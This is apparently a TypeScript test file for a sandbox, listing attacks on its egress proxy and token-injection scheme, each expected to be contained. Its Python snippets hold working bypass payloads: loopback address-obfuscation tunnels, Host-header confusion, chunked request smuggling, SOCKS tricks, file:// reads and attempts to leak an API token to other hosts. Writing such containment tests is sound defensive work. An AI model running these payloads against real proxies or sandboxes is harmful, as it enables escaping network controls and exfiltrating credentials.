import type { Attack } from "../attack.ts";
import { does } from "./make-attack.ts";

const proxied = {
  kind: "exfiltration",
  scenario: "network",
  containedBy: { default: "the proxy parses one target, and decides by name, port and address" },
  weakness: "no-proxy",
} as const;

/** Python: bytes to the cell's way out, and what comes back. Any success, or a connection that the host sees, is harm. */
const speaking = `
def speak(data, then=b""):
    with socket.create_connection(("127.0.0.1", 3128), 5) as one:
        one.settimeout(5)
        one.sendall(data)
        answer = b""
        try:
            answer = one.recv(4096)
            if then and answer: one.sendall(then); answer += one.recv(4096)
        except OSError: pass
        return answer
def tunnel(target):
    answer = speak(b"CONNECT " + target + b" HTTP/1.1\\r\\nHost: " + target + b"\\r\\n\\r\\n", b"knock")
    return "tunnel to " + target.decode() if answer.startswith((b"HTTP/1.1 200", b"HTTP/1.0 200")) else "contained"
def fetch(url, host_field, more=b""):
    answer = speak(b"GET " + url + b" HTTP/1.1\\r\\nHost: " + host_field + b"\\r\\n" + more + b"Connection: close\\r\\n\\r\\n")
    show(answer)
    return answer
def fetched(url, host_field, more=b""):
    answer = fetch(url, host_field, more)
    return "the answer of " + url.decode() if b" 200 " in answer[:16] else "contained"
def socks5(kind, address, port):
    answer = speak(b"\\x05\\x01\\x00", b"\\x05\\x01\\x00" + bytes([kind]) + address + port.to_bytes(2, "big"))
    return "SOCKS reached it" if answer[2:4] == b"\\x05\\x00" else "contained"
port = str(host["port"]).encode()
good_name, good_port = host["good"].split(":")
good = host["good"].encode()
other = host["other"].encode()
`;

function speaks(id: string, title: string, code: string, more: Partial<Attack> = {}): Attack {
  return { ...does(`egress/${id}`, title, `${speaking}\n${code}`, proxied), ...more };
}

/** Targets of a tunnel that must all be refused; each would lead to a listener of the host. */
const spellings: readonly (readonly [id: string, title: string, target: string])[] = [
  ["loopback", "tunnels to the host's loopback", `b"127.0.0.1:" + port`],
  ["localhost", "tunnels to localhost", `b"localhost:" + port`],
  ["any-address", "tunnels to 0.0.0.0, which is the host itself", `b"0.0.0.0:" + port`],
  ["ipv6-loopback", "tunnels to the host's loopback by IPv6", `b"[::1]:" + port`],
  ["mapped-loopback", "tunnels to an IPv4 address in IPv6", `b"[::ffff:127.0.0.1]:" + port`],
  ["decimal-address", "tunnels to an address written as one number", `b"2130706433:" + port`],
  ["hexadecimal-address", "tunnels to an address in hexadecimal", `b"0x7f.0.0.1:" + port`],
  ["octal-address", "tunnels to an address in octal", `b"0177.0.0.1:" + port`],
  ["short-address", "tunnels to an address with parts left out", `b"127.1:" + port`],
  ["loopback-dot", "tunnels to an address that ends with a dot", `b"127.0.0.1.:" + port`],
  ["user-information", "hides the target behind an allowed name", `good_name.encode() + b"@127.0.0.1:" + port`],
  ["other-port", "tunnels to another port of an allowed host", `good_name.encode() + b":" + port`],
  ["unlisted", "tunnels to a host that no rule names", `b"unlisted.example:" + port`],
  ["denied", "tunnels to a host that the policy denies", `b"denied.wild.example:" + port`],
  ["wildcard-itself", "tunnels to the name of a wildcard itself", `b"wild.example:" + port`],
  ["suffix", "tunnels to a name that only ends like an allowed one", `b"evilwild.example:" + port`],
  ["model-host", "tunnels to a model provider under a wildcard", `b"api.openai.com:" + port`],
  ["null-byte", "hides the target behind a NUL byte", `b"unlisted.example\\x00.wild.example:" + port`],
];

/** A policy with a network allows named hosts, and nothing else. */
export const egressAttacks: readonly Attack[] = [
  speaks(
    "works",
    "uses the allowed host, which shows that the other attempts could succeed",
    `
if b" 200 " not in fetch(b"http://" + good + b"/", good)[:16]: raise RuntimeError("the proxy does not work")
verdict = "contained"`,
    { control: { none: "it is the control of the others: it must work" } },
  ),
  does(
    "egress/direct",
    "connects without the proxy",
    `verdict = first_of(lambda: connects(socket.AF_INET, ("127.0.0.1", host["port"])), lambda: connects(socket.AF_INET, ("127.0.0.1", int(host["good"].split(":")[1]))))`,
    { ...proxied, containedBy: { default: "network namespace without a link" }, weakness: "host-network" },
  ),
  ...spellings.map(([id, title, target]) => speaks(id, title, `verdict = tunnel(${target})`)),
  speaks(
    "request-to-loopback",
    "requests a page of the host's loopback",
    `verdict = fetched(b"http://127.0.0.1:" + port + b"/", b"127.0.0.1:" + port)`,
  ),
  speaks(
    "host-field",
    "names an allowed host in the request line and another in the Host field",
    `verdict = fetched(b"http://" + good + b"/", b"127.0.0.1:" + port)`,
  ),
  speaks(
    "host-field-twice",
    "sends two Host fields",
    `verdict = fetched(b"http://" + good + b"/", good + b"\\r\\nHost: " + other)`,
  ),
  speaks(
    "other-in-request-line",
    "names an allowed host in the Host field and another in the request line",
    `verdict = fetched(b"http://unlisted.example:" + port + b"/", good)`,
  ),
  speaks(
    "smuggling",
    "hides a second request in the body of the first",
    `
body = b"0\\r\\n\\r\\nGET http://127.0.0.1:" + port + b"/ HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n\\r\\n"
verdict = fetched(b"http://" + good + b"/", good, b"Content-Length: " + str(len(body)).encode() + b"\\r\\nTransfer-Encoding: chunked\\r\\n")`,
  ),
  speaks(
    "second-request",
    "asks for another host in a second request of the same connection",
    `
first = b"GET http://" + good + b"/ HTTP/1.1\\r\\nHost: " + good + b"\\r\\n\\r\\n"
second = b"GET http://127.0.0.1:" + port + b"/ HTTP/1.1\\r\\nHost: 127.0.0.1:" + port + b"\\r\\n\\r\\n"
answer = speak(first + second, b"\\r\\n")
verdict = unless(answer.count(b" 200 ") > 1, "two answers")`,
  ),
  speaks(
    "socks-address",
    "reaches the host's loopback by SOCKS",
    `verdict = socks5(1, bytes([127, 0, 0, 1]), host["port"])`,
  ),
  speaks(
    "socks-name",
    "reaches a host that no rule names by SOCKS",
    `verdict = socks5(3, bytes([16]) + b"unlisted.example", host["port"])`,
  ),
  speaks(
    "socks-ipv6",
    "reaches the host's loopback by SOCKS and IPv6",
    `verdict = socks5(4, bytes(15) + b"\\x01", host["port"])`,
  ),
  speaks(
    "socks4",
    "reaches the host's loopback by the older SOCKS",
    `verdict = unless(speak(b"\\x04\\x01" + host["port"].to_bytes(2, "big") + bytes([127, 0, 0, 1]) + b"\\x00")[1:2] == b"\\x5a", "SOCKS reached it")`,
  ),
  speaks(
    "socks-listen",
    "has the proxy listen for it, or carry datagrams",
    `
def command(number):
    return speak(b"\\x05\\x01\\x00", b"\\x05" + bytes([number]) + b"\\x00\\x01" + bytes([127, 0, 0, 1]) + host["port"].to_bytes(2, "big"))[2:4]
verdict = unless(b"\\x05\\x00" in (command(2), command(3)), "the proxy agreed")`,
  ),
  speaks(
    "file-url",
    "has the proxy read a file of the host",
    `verdict = first_of(*[lambda path=path: fetched(b"file://" + path.encode(), b"localhost") for path in host["files"]])`,
  ),
  speaks(
    "proxy-itself",
    "asks the proxy for its own pages, to control it",
    `verdict = first_of(lambda: fetched(b"/", b"127.0.0.1:3128"), lambda: fetched(b"/metrics", good), lambda: fetched(b"http://127.0.0.1:3128/", b"127.0.0.1:3128"))`,
  ),
];

const secrets = {
  kind: "exfiltration",
  scenario: "network",
  containedBy: { default: "the cell has a placeholder; the proxy inserts the value for its own host only" },
  weakness: "no-proxy",
} as const;

function leaks(id: string, title: string, code: string, more: Partial<Attack> = {}): Attack {
  const setup = `token = os.environ["API_TOKEN"].encode()`;
  return { ...does(`secrets/${id}`, title, `${speaking}\n${setup}\n${code}`, secrets), ...more };
}

/** A secret that the proxy inserts into requests to one host, and that no program may read or send elsewhere. */
export const secretAttacks: readonly Attack[] = [
  leaks("environment", "reads the secret in its environment", `show(dict(os.environ))\nverdict = "contained"`),
  leaks(
    "echo",
    "has the server that gets the secret return it",
    `show(fetch(b"http://" + good + b"/echo", good, b"Authorization: Bearer " + token + b"\\r\\n"))\nverdict = "contained"`,
  ),
  leaks(
    "echo-encoded",
    "has the server return the secret as a range, to get it in pieces",
    `
for start in range(0, 400, 40): show(fetch(b"http://" + good + b"/echo", good, b"Authorization: " + token + b"\\r\\nRange: bytes=%d-%d\\r\\nAccept-Encoding: gzip\\r\\n" % (start, start + 40)))
verdict = "contained"`,
  ),
  leaks(
    "other-host",
    "sends the secret to another allowed host",
    `show(fetch(b"http://" + other + b"/", other, b"Authorization: Bearer " + token + b"\\r\\n"))\nverdict = "contained"`,
  ),
  leaks(
    "other-host-field",
    "sends the secret to another host with the name of its own in the Host field",
    `show(fetch(b"http://" + other + b"/", good, b"Authorization: Bearer " + token + b"\\r\\n"))\nverdict = "contained"`,
  ),
  leaks(
    "redirect",
    "lets a redirect carry the secret to another host",
    `
import urllib.request, urllib.error
request = urllib.request.Request("http://" + host["good"] + "/redirect", headers={"Authorization": "Bearer " + token.decode()})
try: show(urllib.request.urlopen(request, timeout=5).read())
except OSError as error: show(str(error))
verdict = "contained"`,
  ),
  leaks(
    "url-and-body",
    "has the secret put into a URL or a body, which servers keep",
    `
show(fetch(b"http://" + good + b"/echo?key=" + token, good))
show(speak(b"POST http://" + good + b"/echo HTTP/1.1\\r\\nHost: " + good + b"\\r\\nContent-Length: " + str(len(token)).encode() + b"\\r\\nConnection: close\\r\\n\\r\\n" + token))
verdict = "contained"`,
  ),
  leaks(
    "other-field",
    "has the secret put into a field that the policy does not name",
    `show(fetch(b"http://" + good + b"/echo", good, b"X-Note: " + token + b"\\r\\nCookie: " + token + b"\\r\\n"))\nverdict = "contained"`,
  ),
  leaks(
    "memory",
    "searches its memory for the secret after it was sent",
    `
fetch(b"http://" + good + b"/echo", good, b"Authorization: Bearer " + token + b"\\r\\n")
${searchOwnMemory}verdict = "contained"`,
    { timeoutMs: 20_000 },
  ),
];

import { searchOwnMemory } from "./shared-facts.ts";
